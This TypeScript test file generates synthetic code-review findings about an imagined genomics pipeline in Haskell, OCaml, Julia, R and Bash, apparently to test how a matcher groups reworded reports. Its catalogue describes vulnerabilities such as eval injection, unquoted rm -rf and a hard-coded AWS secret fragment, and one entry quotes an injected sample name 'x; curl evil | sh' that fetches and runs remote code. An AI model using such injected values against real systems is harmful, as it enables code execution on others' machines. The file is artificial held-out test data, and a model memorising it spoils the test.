/**
 * The fifth held-out generator family for grouping quality (issue #12): a genomics pipeline in
 * Haskell, OCaml, Julia, R and Bash, none of which appear anywhere else in the tests.
 *
 * Written after every change to the matcher before it, and before anything was run on it; never
 * tuned against. Self-contained: its own random numbers, catalogue and model of how reports
 * vary, built from habits of model output the other families do not have:
 *  - a run miscounts the lines of a whole file by the same amount (a model that skipped the
 *    licence header), besides the usual scatter and the function's first line;
 *  - paths as `./` plus the repository path, a workspace-absolute path, the path inside its
 *    package, or the bare name;
 *  - symbols with a type signature or an argument list (`runAligner :: Config -> IO ()`,
 *    `normalize!(counts)`), module-qualified, the call at fault, or nothing;
 *  - categories as an OWASP 2021 entry, a CWE id, a kebab-case tag, a plain name or a bare
 *    word such as "Security", most of a run in one form;
 *  - titles and descriptions composed from interchangeable parts, so rewording is
 *    combinatorial rather than a choice among a few fixed sentences;
 *  - one kind of issue at several places of one script (each place its own issue, in nearly
 *    the same words), two memory issues two lines apart in one Haskell function, and nitpicks
 *    a run adds at one of a few places in a file, the same nitpick at the same place being the
 *    same finding.
 * Do not edit the catalogue or the variation to suit the matcher: that would end its use.
 */
import type { Finding, Run, Severity } from "../../src/findings/types.js";
import { shuffle } from "../../src/util/random.js";
import type { Generated, GeneratorOptions } from "./quality.js";

/** xorshift32 seeded by a polynomial string hash: its own numbers, shared with nothing. */
function xorshiftFrom(text: string): () => number {
  let x = 2166136261;
  for (let i = 0; i < text.length; i++) x = (Math.imul(x, 31) + text.charCodeAt(i) * 7919) | 0;
  x = x === 0 ? 0x1234567 : x;
  // Warm up: nearby seeds start far apart.
  const next = () => {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    return (x >>> 0) / 4294967296;
  };
  for (let i = 0; i < 8; i++) next();
  return next;
}

type Agent = "security" | "performance" | "architecture";

interface Kinds {
  owasp?: string;
  cwe?: string;
  tag: string;
  name: string;
  broad: string;
}

interface GenomicsIssue {
  id: string;
  agent: Agent;
  severity: Severity;
  /** Share of runs that report it. */
  rate: number;
  file: string;
  line: number;
  /** The first line of the enclosing function. */
  start: number;
  module: string;
  fn: string;
  signature: string;
  call?: string;
  kinds: Kinds;
  /** Noun phrases for what is wrong, interchangeable. */
  what: string[];
  /** Sentences stating the fault. */
  facts: string[];
  impact: string[];
  fix: string[];
  code: string;
}

const ALIGN = "pipeline/src/Pipeline/Align.hs";
const CONFIG = "pipeline/src/Pipeline/Config.hs";
const CALLER = "caller/lib/variant_caller.ml";
const NORMALIZE = "stats/src/Normalize.jl";
const PLOTS = "reports/R/plot_qc.R";
const BATCH = "scripts/run_batch.sh";

const CATALOGUE: GenomicsIssue[] = [
  {
    id: "sh-eval",
    agent: "security",
    severity: "HIGH",
    rate: 0.8,
    file: BATCH,
    line: 23,
    start: 19,
    module: "run_batch.sh",
    fn: "run_sample",
    signature: "run_sample()",
    call: "eval",
    kinds: {
      owasp: "A03:2021 – Injection",
      cwe: "CWE-78",
      tag: "command-injection",
      name: "OS Command Injection",
      broad: "Security",
    },
    what: [
      "command injection through eval",
      "shell injection from sample names",
      "eval of unsanitised manifest fields",
    ],
    facts: [
      "run_sample builds the aligner command from the manifest row and runs it with eval.",
      'The sample name read from manifest.tsv is interpolated into `eval "$ALIGNER $ARGS"`.',
      "A sample called `x; curl evil | sh` runs arbitrary commands on the cluster node.",
    ],
    impact: ["Anyone who can edit a manifest can run code as the pipeline user."],
    fix: ["Call the aligner directly with quoted arguments instead of eval.", "Build an argument array."],
    code: 'eval "$ALIGNER $ARGS"',
  },
  {
    id: "sh-rm-unquoted",
    agent: "security",
    severity: "MEDIUM",
    rate: 0.6,
    file: BATCH,
    line: 41,
    start: 38,
    module: "run_batch.sh",
    fn: "cleanup",
    signature: "cleanup()",
    call: "rm -rf",
    kinds: {
      cwe: "CWE-20",
      tag: "unquoted-variable",
      name: "Unquoted variable expansion",
      broad: "Security",
    },
    what: ["unquoted variable in rm -rf", "word splitting in a destructive command", "unsafe rm of $OUT_DIR"],
    facts: [
      "cleanup runs `rm -rf $OUT_DIR/$sample` with both variables unquoted.",
      "If OUT_DIR is empty or contains spaces, rm -rf deletes the wrong directories.",
    ],
    impact: ["An empty variable turns this into rm -rf /sample."],
    fix: ['Quote the expansions: rm -rf -- "${OUT_DIR:?}/$sample".', "Use ${VAR:?} to fail on empty."],
    code: "rm -rf $OUT_DIR/$sample",
  },
  {
    id: "sh-cp-unquoted",
    agent: "security",
    severity: "LOW",
    rate: 0.45,
    file: BATCH,
    line: 57,
    start: 52,
    module: "run_batch.sh",
    fn: "stage_inputs",
    signature: "stage_inputs()",
    call: "cp",
    kinds: {
      cwe: "CWE-20",
      tag: "unquoted-variable",
      name: "Unquoted variable expansion",
      broad: "Security",
    },
    what: ["unquoted variable in cp", "word splitting of file names", "unquoted $f when staging inputs"],
    facts: [
      "stage_inputs copies each FASTQ with `cp $f $DEST`, unquoted.",
      "File names with spaces or glob characters are split or expanded when staged.",
    ],
    impact: ["Inputs are silently skipped or copied to the wrong place."],
    fix: ['Quote them: cp -- "$f" "$DEST".', "Quote every expansion."],
    code: "cp $f $DEST",
  },
  {
    id: "sh-no-strict",
    agent: "architecture",
    severity: "LOW",
    rate: 0.3,
    file: BATCH,
    line: 2,
    start: 1,
    module: "run_batch.sh",
    fn: "main",
    signature: "main()",
    kinds: { tag: "error-handling", name: "Missing strict mode", broad: "Reliability" },
    what: ["missing set -euo pipefail", "no strict mode in the batch script", "errors ignored by the script"],
    facts: [
      "run_batch.sh does not set -e, -u or pipefail, so a failed alignment carries on.",
      "Without pipefail a failing aligner piped into samtools still exits 0.",
    ],
    impact: ["Half-finished samples are reported as done."],
    fix: ["Add set -euo pipefail at the top.", "Check each step's exit status."],
    code: "#!/bin/bash",
  },
  {
    id: "sh-tmp",
    agent: "security",
    severity: "MEDIUM",
    rate: 0.2,
    file: BATCH,
    line: 12,
    start: 1,
    module: "run_batch.sh",
    fn: "main",
    signature: "main()",
    kinds: {
      cwe: "CWE-377",
      tag: "insecure-temp-file",
      name: "Insecure Temporary File",
      broad: "Security",
    },
    what: ["predictable temporary file", "temp path built from $$", "insecure use of /tmp"],
    facts: [
      "The script writes to /tmp/batch_$$, a name another user can guess and pre-create.",
      "TMP=/tmp/batch_$$ is predictable and not created atomically.",
    ],
    impact: ["A local user can make the pipeline overwrite files through a symlink."],
    fix: ["Use mktemp -d.", "Create the directory with mktemp and a trap to remove it."],
    code: "TMP=/tmp/batch_$$",
  },
  {
    id: "hs-unsafe-config",
    agent: "architecture",
    severity: "MEDIUM",
    rate: 0.5,
    file: CONFIG,
    line: 18,
    start: 16,
    module: "Pipeline.Config",
    fn: "globalConfig",
    signature: "globalConfig :: IORef Config",
    call: "unsafePerformIO",
    kinds: { tag: "global-state", name: "Global mutable state", broad: "Design" },
    what: [
      "global IORef through unsafePerformIO",
      "hidden mutable configuration",
      "top-level unsafePerformIO",
    ],
    facts: [
      "globalConfig is a top-level IORef created with unsafePerformIO and read from pure code.",
      "The configuration is global mutable state, so functions that look pure depend on it.",
    ],
    impact: ["Results depend on evaluation order; tests cannot set their own config."],
    fix: ["Pass Config explicitly or through a ReaderT.", "Remove the global and thread the value."],
    code: "globalConfig = unsafePerformIO (newIORef defaultConfig)",
  },
  {
    id: "hs-secret",
    agent: "security",
    severity: "HIGH",
    rate: 0.35,
    file: CONFIG,
    line: 9,
    start: 7,
    module: "Pipeline.Config",
    fn: "defaultConfig",
    signature: "defaultConfig :: Config",
    kinds: {
      owasp: "A07:2021 – Identification and Authentication Failures",
      cwe: "CWE-798",
      tag: "hardcoded-secret",
      name: "Hard-coded Credentials",
      broad: "Security",
    },
    what: ["hard-coded S3 credentials", "AWS secret key in source", "embedded storage credentials"],
    facts: [
      "defaultConfig contains an AWS access key and secret for the results bucket.",
      'The literal s3Secret = "wJalr…" is committed with the code.',
    ],
    impact: ["Anyone with the repository can read and overwrite patient sequencing data."],
    fix: ["Read credentials from the environment or an instance role.", "Rotate the key."],
    code: 's3Secret = "wJalrXUtnFEMI/K7MDENG"',
  },
  {
    id: "hs-head",
    agent: "architecture",
    severity: "LOW",
    rate: 0.4,
    file: ALIGN,
    line: 52,
    start: 49,
    module: "Pipeline.Align",
    fn: "parseHeader",
    signature: "parseHeader :: Text -> Header",
    call: "head",
    kinds: { tag: "partial-function", name: "Partial function", broad: "Reliability" },
    what: ["partial head on possibly empty input", "crash on an empty header", "use of head"],
    facts: [
      "parseHeader calls head on the lines of the header, which is empty for a truncated file.",
      "An empty SAM header makes head throw and the whole run abort.",
    ],
    impact: ["One bad input file stops the batch with an unhelpful error."],
    fix: ["Pattern match and return an Either.", "Use a total function such as listToMaybe."],
    code: "let first = head (T.lines hdr)",
  },
  {
    id: "hs-lazy-read",
    agent: "performance",
    severity: "HIGH",
    rate: 0.7,
    file: ALIGN,
    line: 77,
    start: 74,
    module: "Pipeline.Align",
    fn: "countReads",
    signature: "countReads :: FilePath -> IO Int",
    call: "readFile",
    kinds: { tag: "memory", name: "Excessive memory use", broad: "Performance" },
    what: ["whole FASTQ read into memory", "String readFile on large inputs", "lazy IO over the entire file"],
    facts: [
      "countReads reads the FASTQ with String readFile and keeps the list of lines alive.",
      "A 30 GB FASTQ is loaded as a String, about 24 bytes per character.",
    ],
    impact: ["Jobs are killed by the memory limit on real samples."],
    fix: ["Stream with conduit or ByteString.Lazy.", "Count lines incrementally."],
    code: "contents <- readFile path",
  },
  {
    id: "hs-foldl",
    agent: "performance",
    severity: "MEDIUM",
    rate: 0.45,
    file: ALIGN,
    line: 79,
    start: 74,
    module: "Pipeline.Align",
    fn: "countReads",
    signature: "countReads :: FilePath -> IO Int",
    call: "foldl",
    kinds: { tag: "space-leak", name: "Space leak", broad: "Performance" },
    what: ["lazy foldl builds thunks", "space leak in the read counter", "non-strict accumulator"],
    facts: [
      "The count uses foldl, which builds a chain of thunks as long as the file.",
      "foldl (+) 0 accumulates unevaluated additions before forcing them.",
    ],
    impact: ["Stack and heap grow with the number of reads."],
    fix: ["Use foldl' from Data.List.", "Make the accumulator strict."],
    code: "foldl (\\n _ -> n + 1) 0 (lines contents)",
  },
  {
    id: "hs-callcommand",
    agent: "security",
    severity: "HIGH",
    rate: 0.55,
    file: ALIGN,
    line: 104,
    start: 100,
    module: "Pipeline.Align",
    fn: "runAligner",
    signature: "runAligner :: Config -> FilePath -> IO ()",
    call: "callCommand",
    kinds: {
      owasp: "A03:2021 – Injection",
      cwe: "CWE-78",
      tag: "command-injection",
      name: "OS Command Injection",
      broad: "Security",
    },
    what: [
      "shell command built by string concatenation",
      "callCommand with interpolated paths",
      "command injection in runAligner",
    ],
    facts: [
      'runAligner runs callCommand ("bwa mem " ++ ref ++ " " ++ reads) through the shell.',
      "Paths from the config reach a shell command line unescaped.",
    ],
    impact: ["A crafted reference path runs commands on the node."],
    fix: ["Use proc with an argument list.", 'Avoid the shell: callProcess "bwa" ["mem", ref, reads].'],
    code: 'callCommand ("bwa mem " ++ ref ++ " " ++ reads)',
  },
  {
    id: "ml-append",
    agent: "performance",
    severity: "MEDIUM",
    rate: 0.6,
    file: CALLER,
    line: 120,
    start: 114,
    module: "Variant_caller",
    fn: "collect_variants",
    signature: "collect_variants : pileup list -> variant list",
    call: "List.fold_left",
    kinds: { tag: "algorithmic-complexity", name: "Quadratic list append", broad: "Performance" },
    what: ["quadratic list append in a fold", "acc @ [v] inside fold_left", "O(n²) variant collection"],
    facts: [
      "collect_variants appends each variant with acc @ [v], copying the list every time.",
      "Appending to the end of an OCaml list in a loop is quadratic in the number of variants.",
    ],
    impact: ["Whole-genome runs spend minutes in list copying."],
    fix: ["Cons onto the front and List.rev at the end.", "Use a Buffer or Dynarray."],
    code: "List.fold_left (fun acc p -> acc @ [call p]) [] pileups",
  },
  {
    id: "ml-obj-magic",
    agent: "architecture",
    severity: "MEDIUM",
    rate: 0.35,
    file: CALLER,
    line: 66,
    start: 63,
    module: "Variant_caller",
    fn: "decode_record",
    signature: "decode_record : bytes -> record",
    call: "Obj.magic",
    kinds: { tag: "type-safety", name: "Unsafe cast", broad: "Design" },
    what: ["Obj.magic cast of decoded bytes", "type-unsafe decoding", "bypassing the type system"],
    facts: [
      "decode_record turns Marshal output into a record with Obj.magic.",
      "Obj.magic defeats the type checker; a format change crashes at run time or corrupts memory.",
    ],
    impact: ["Segfaults on files written by another version."],
    fix: ["Parse the bytes into the record explicitly.", "Use a serialisation library with types."],
    code: "(Obj.magic (Marshal.from_bytes b 0) : record)",
  },
  {
    id: "ml-memo",
    agent: "performance",
    severity: "LOW",
    rate: 0.3,
    file: CALLER,
    line: 31,
    start: 29,
    module: "Variant_caller",
    fn: "quality_cache",
    signature: "quality_cache : (int * int, float) Hashtbl.t",
    call: "Hashtbl.add",
    kinds: { tag: "memory-leak", name: "Unbounded cache", broad: "Performance" },
    what: ["memo table never cleared", "unbounded Hashtbl cache", "cache growing with every position"],
    facts: [
      "quality_cache memoises by (position, depth) and nothing ever removes an entry.",
      "The Hashtbl grows with every genomic position seen.",
    ],
    impact: ["Memory rises through the run until the job is killed."],
    fix: ["Bound the cache (LRU) or clear it per chromosome.", "Scope the table to one region."],
    code: "Hashtbl.add quality_cache (pos, depth) q",
  },
  {
    id: "ml-swallow",
    agent: "architecture",
    severity: "LOW",
    rate: 0.4,
    file: CALLER,
    line: 143,
    start: 138,
    module: "Variant_caller",
    fn: "write_vcf",
    signature: "write_vcf : out_channel -> variant list -> unit",
    kinds: { tag: "error-handling", name: "Swallowed exception", broad: "Reliability" },
    what: ["exceptions swallowed with `with _ -> ()`", "write errors ignored", "catch-all handler"],
    facts: [
      "write_vcf wraps output in try … with _ -> (), so a full disk goes unnoticed.",
      "Every exception while writing the VCF is discarded.",
    ],
    impact: ["Truncated VCF files look complete."],
    fix: ["Catch only the expected exception and re-raise the rest.", "Let Sys_error propagate."],
    code: "with _ -> ()",
  },
  {
    id: "jl-instability",
    agent: "performance",
    severity: "MEDIUM",
    rate: 0.65,
    file: NORMALIZE,
    line: 14,
    start: 12,
    module: "Normalize",
    fn: "normalize!",
    signature: "normalize!(counts::Vector)",
    kinds: { tag: "type-instability", name: "Type instability", broad: "Performance" },
    what: ["type-unstable return", "normalize! returns Int or Float", "unstable types in the hot loop"],
    facts: [
      "normalize! returns 0 (an Int) for empty input and a Float64 otherwise.",
      "The accumulator starts as 0 and becomes Float64, so the compiler boxes it.",
    ],
    impact: ["The hot loop allocates on every iteration."],
    fix: ["Start from zero(eltype(counts)).", "Check with @code_warntype."],
    code: "total = 0",
  },
  {
    id: "jl-global",
    agent: "performance",
    severity: "LOW",
    rate: 0.5,
    file: NORMALIZE,
    line: 5,
    start: 5,
    module: "Normalize",
    fn: "SCALE",
    signature: "SCALE",
    kinds: { tag: "global-variable", name: "Non-constant global", broad: "Performance" },
    what: ["non-const global SCALE", "untyped global used in a loop", "global variable in hot code"],
    facts: [
      "SCALE is a non-constant global read inside normalize!, so its type is unknown to the compiler.",
      "Julia cannot specialise code that reads the mutable global SCALE.",
    ],
    impact: ["Every access is a dynamic lookup."],
    fix: ["Declare it const SCALE.", "Pass it as an argument."],
    code: "SCALE = 1e6",
  },
  {
    id: "jl-deserialize",
    agent: "security",
    severity: "HIGH",
    rate: 0.45,
    file: NORMALIZE,
    line: 48,
    start: 45,
    module: "Normalize",
    fn: "load_cache",
    signature: "load_cache(path::String)",
    call: "Serialization.deserialize",
    kinds: {
      owasp: "A08:2021 – Software and Data Integrity Failures",
      cwe: "CWE-502",
      tag: "insecure-deserialization",
      name: "Deserialization of Untrusted Data",
      broad: "Security",
    },
    what: [
      "deserialising cache files from a shared directory",
      "unsafe Serialization.deserialize",
      "code execution via cache files",
    ],
    facts: [
      "load_cache calls Serialization.deserialize on files in the shared scratch directory.",
      "Julia's deserializer can construct arbitrary objects, and anyone can write to the cache path.",
    ],
    impact: ["A planted cache file runs code in the analyst's session."],
    fix: ["Store caches as Arrow or JLD2 with plain data.", "Keep caches in a private directory."],
    code: "Serialization.deserialize(open(path))",
  },
  {
    id: "r-eval",
    agent: "security",
    severity: "CRITICAL",
    rate: 0.6,
    file: PLOTS,
    line: 27,
    start: 22,
    module: "plot_qc.R",
    fn: "filter_samples",
    signature: "filter_samples(input, data)",
    call: "eval(parse())",
    kinds: {
      owasp: "A03:2021 – Injection",
      cwe: "CWE-95",
      tag: "code-injection",
      name: "Code Injection",
      broad: "Security",
    },
    what: [
      "eval(parse()) of a Shiny input",
      "R code injection from the filter box",
      "user text evaluated as code",
    ],
    facts: [
      "filter_samples evaluates the filter typed into the dashboard with eval(parse(text = input$filter)).",
      "Text from the Shiny text input is parsed and run as R code on the server.",
    ],
    impact: ["Any dashboard user can run system() on the analysis server."],
    fix: [
      "Offer fixed filters or parse a small expression language.",
      "Use dplyr::filter with validated columns.",
    ],
    code: "eval(parse(text = input$filter))",
  },
  {
    id: "r-grow",
    agent: "performance",
    severity: "LOW",
    rate: 0.5,
    file: PLOTS,
    line: 44,
    start: 40,
    module: "plot_qc.R",
    fn: "collect_metrics",
    signature: "collect_metrics(samples)",
    kinds: { tag: "algorithmic-complexity", name: "Growing a vector in a loop", broad: "Performance" },
    what: ["vector grown inside a loop", "results <- c(results, x) per iteration", "repeated reallocation"],
    facts: [
      "collect_metrics appends to results with c() on each pass of the for loop.",
      "Each c(results, x) copies the whole vector.",
    ],
    impact: ["Quadratic time for large cohorts."],
    fix: ["Preallocate or use vapply.", "Build a list and bind once."],
    code: "results <- c(results, qc(s))",
  },
  {
    id: "r-setwd",
    agent: "architecture",
    severity: "INFO",
    rate: 0.15,
    file: PLOTS,
    line: 3,
    start: 1,
    module: "plot_qc.R",
    fn: "<script>",
    signature: "<script>",
    call: "setwd",
    kinds: { tag: "portability", name: "Hard-coded path", broad: "Maintainability" },
    what: ["setwd to a personal directory", "hard-coded working directory", "absolute path in the script"],
    facts: [
      'The script starts with setwd("/home/ana/projects/qc"), which exists on one machine.',
      "A hard-coded working directory makes the report fail everywhere else.",
    ],
    impact: ["Nobody else can run the report."],
    fix: ["Use here::here() or paths relative to the project.", "Take the directory as an argument."],
    code: 'setwd("/home/ana/projects/qc")',
  },
];

/** Nitpicks a run adds on its own; the same one at the same place of a file is one finding. */
const NITPICKS: { agent: Agent; category: string; title: string; text: string }[] = [
  {
    agent: "architecture",
    category: "Documentation",
    title: "Missing documentation",
    text: "This function has no doc comment explaining its arguments.",
  },
  {
    agent: "architecture",
    category: "Maintainability",
    title: "Magic number",
    text: "A numeric literal is used without a named constant.",
  },
  {
    agent: "architecture",
    category: "Testing",
    title: "No tests cover this code",
    text: "There are no unit tests for this function.",
  },
  {
    agent: "performance",
    category: "Performance",
    title: "Consider caching this result",
    text: "The value is recomputed on every call and could be cached.",
  },
  {
    agent: "security",
    category: "Input validation",
    title: "Validate inputs",
    text: "Arguments are used without validation.",
  },
];
/** The places in each file where a nitpick can land: far enough apart to be told apart. */
const NITPICK_PLACES = [30, 90, 150, 210];

const LADDER: Severity[] = ["CRITICAL", "HIGH", "MEDIUM", "LOW", "INFO"];

type CategoryForm = "owasp" | "cwe" | "tag" | "name" | "broad";
type PathForm = "repo" | "dot" | "absolute" | "package" | "bare";
type SymbolForm = "qualified" | "bare" | "signature" | "call" | "none";

interface Habits {
  category: CategoryForm;
  path: PathForm;
  symbol: SymbolForm;
  /** Lines a run miscounts each file by (0 for most). */
  shift: Map<string, number>;
  /** Whether the run gives the enclosing function's first line rather than the fault's. */
  functionLines: boolean;
  terse: boolean;
  /** 0: "<What> in <fn>", 1: "<what>", 2: "<Kind>: <what>", 3: "Possible <what>". */
  title: number;
  lowercase: boolean;
}

function choose<T>(random: () => number, list: readonly T[]): T {
  return list[Math.floor(random() * list.length)]!;
}

function capitalised(text: string): string {
  return text.charAt(0).toUpperCase() + text.slice(1);
}

function habitsOf(random: () => number, heavy: boolean): Habits {
  const shift = new Map<string, number>();
  for (const file of [ALIGN, CONFIG, CALLER, NORMALIZE, PLOTS, BATCH]) {
    if (random() < (heavy ? 0.3 : 0.08)) shift.set(file, 2 + Math.floor(random() * (heavy ? 11 : 5)));
  }
  return {
    category: heavy
      ? choose(random, ["owasp", "cwe", "tag", "name", "broad"] as const)
      : choose(random, ["name", "name", "name", "tag"] as const),
    path: heavy
      ? choose(random, ["repo", "dot", "absolute", "package", "bare"] as const)
      : choose(random, ["repo", "repo", "repo", "dot"] as const),
    symbol: heavy
      ? choose(random, ["qualified", "bare", "signature", "call", "none"] as const)
      : choose(random, ["qualified", "qualified", "bare"] as const),
    shift,
    functionLines: random() < (heavy ? 0.2 : 0.05),
    terse: random() < 0.4,
    title: heavy ? Math.floor(random() * 4) : random() < 0.7 ? 0 : 1,
    lowercase: random() < (heavy ? 0.3 : 0.1),
  };
}

function pathOf(file: string, form: PathForm): string {
  switch (form) {
    case "repo":
      return file;
    case "dot":
      return `./${file}`;
    case "absolute":
      return `/workspace/genomics/${file}`;
    case "package":
      return file.split("/").slice(1).join("/");
    case "bare":
      return file.slice(file.lastIndexOf("/") + 1);
  }
}

function symbolOf(issue: GenomicsIssue, form: SymbolForm): string | undefined {
  switch (form) {
    case "qualified":
      return issue.module.includes(".") && !issue.module.endsWith(".sh") && !issue.module.endsWith(".R")
        ? `${issue.module}.${issue.fn}`
        : issue.fn;
    case "bare":
      return issue.fn;
    case "signature":
      return issue.signature;
    case "call":
      return issue.call ?? issue.fn;
    case "none":
      return undefined;
  }
}

function categoryOf(kinds: Kinds, form: CategoryForm): string {
  if (form === "owasp") return kinds.owasp ?? kinds.name;
  if (form === "cwe") return kinds.cwe ?? kinds.tag;
  return kinds[form];
}

function report(issue: GenomicsIssue, habits: Habits, heavy: boolean, random: () => number): Finding {
  // A finding strays from its run's habits now and then, more so with heavy variation.
  const own = random() < (heavy ? 0.3 : 0.08) ? habitsOf(random, heavy) : habits;
  const scatter = heavy ? 4 : 1;
  const base = own.functionLines ? issue.start : issue.line;
  const line =
    heavy && random() < 0.05
      ? undefined
      : Math.max(1, base + (own.shift.get(issue.file) ?? 0) + Math.round((random() * 2 - 1) * scatter));
  const what = heavy ? choose(random, issue.what) : issue.what[random() < 0.8 ? 0 : 1]!;
  const kind = categoryOf(issue.kinds, own.category);
  const titles = [
    `${capitalised(what)} in ${issue.fn}`,
    capitalised(what),
    `${kind}: ${what}`,
    `Possible ${what}`,
  ];
  let title = titles[own.title]!;
  if (own.lowercase) title = title.toLowerCase();
  const sentences = heavy ? [...issue.facts].sort(() => random() - 0.5) : [...issue.facts];
  const parts = own.terse ? [sentences[0]!] : sentences.slice(0, 1 + Math.floor(random() * 2));
  if (random() < 0.3) parts.push(`\`${issue.code}\``);
  if (!own.terse && random() < 0.6) parts.push(choose(random, issue.impact));
  if (random() < 0.5) parts.push(heavy ? choose(random, issue.fix) : issue.fix[0]!);
  const rank = LADDER.indexOf(issue.severity);
  const drift = random();
  const severity =
    drift < (heavy ? 0.12 : 0.04)
      ? LADDER[Math.max(0, rank - 1)]!
      : drift > (heavy ? 0.88 : 0.96)
        ? LADDER[Math.min(LADDER.length - 1, rank + 1)]!
        : issue.severity;
  const symbol = symbolOf(issue, own.symbol);
  return {
    agent: issue.agent,
    severity,
    category: kind,
    title,
    description: parts.join(" "),
    file: pathOf(issue.file, own.path),
    ...(symbol !== undefined && { symbol }),
    ...(line !== undefined && { line }),
  };
}

/** N runs of the genomics pipeline's three agents, with the true issue of every finding. */
export function genomicsRuns(options: GeneratorOptions): Generated {
  const heavy = options.variation === "heavy";
  const runs: Run[] = [];
  const sources: string[][] = [];
  for (let r = 0; r < options.runs; r++) {
    const random = xorshiftFrom(`genomics:${options.variation}:${options.seed}:${r}`);
    const habits = habitsOf(random, heavy);
    const drawn = CATALOGUE.filter((issue) => random() < issue.rate).map((issue) => ({
      source: issue.id,
      finding: report(issue, habits, heavy, random),
    }));
    const nitpicks = random() < (heavy ? 0.5 : 0.25) ? 1 + Math.floor(random() * 2) : 0;
    for (let k = 0; k < nitpicks; k++) {
      const nitpick = choose(random, NITPICKS);
      const file = choose(random, [ALIGN, CONFIG, CALLER, NORMALIZE, PLOTS, BATCH]);
      const place = choose(random, NITPICK_PLACES);
      const source = `nitpick:${nitpick.title}:${file}:${place}`;
      // A run names a nitpick once per place.
      if (drawn.some((d) => d.source === source)) continue;
      drawn.push({
        source,
        finding: {
          agent: nitpick.agent,
          severity: "INFO",
          category: nitpick.category,
          title: nitpick.title,
          // Said of its place, as a model does, so a judge can tell two places apart.
          description: `${nitpick.text} (${file.slice(file.lastIndexOf("/") + 1)}, near line ${place})`,
          file: pathOf(file, habits.path),
          line: place + (habits.shift.get(file) ?? 0) + Math.round((random() * 2 - 1) * (heavy ? 3 : 1)),
        },
      });
    }
    shuffle(random, drawn);
    runs.push({ run: r + 1, model: "genomics-generator", findings: drawn.map((d) => d.finding) });
    sources.push(drawn.map((d) => d.source));
  }
  return { runs, sources };
}
